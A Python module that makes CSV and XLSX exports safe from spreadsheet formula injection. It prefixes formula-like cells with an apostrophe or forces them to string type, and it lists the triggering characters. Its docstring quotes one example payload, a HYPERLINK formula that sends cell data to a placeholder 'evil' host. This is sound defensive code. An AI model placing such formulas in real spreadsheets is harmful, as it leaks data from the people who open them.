"""CSV and XLSX writers that neutralise spreadsheet formulas (CSV/formula injection, issue 14).

A cell that a spreadsheet would evaluate — text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return, e.g. ``=HYPERLINK("http://evil/?"&A1)`` in a meter account id — is written as text: in CSV with a
leading apostrophe (OWASP's advice), in XLSX as a string cell (never a formula). Plain numbers such as
``-12.5`` are left alone. Every export that a person may open in Excel or WPS goes through here.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(value: Any) -> bool:
    return (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and _PLAIN_NUMBER.fullmatch(value) is None
    )


def neutral_cell(value: Any) -> Any:
    """The value as a spreadsheet will show it without evaluating it."""
    return "'" + value if is_formula_like(value) else value


class SafeCsvWriter:
    """``csv.writer`` with every cell neutralised."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutral_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` with every cell neutralised."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: neutral_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` where text that looks like a formula stays text (openpyxl would make any
    string starting with ``=`` a formula)."""
    values = list(values)
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if is_formula_like(value):
            cell.value = value
            cell.data_type = "s"
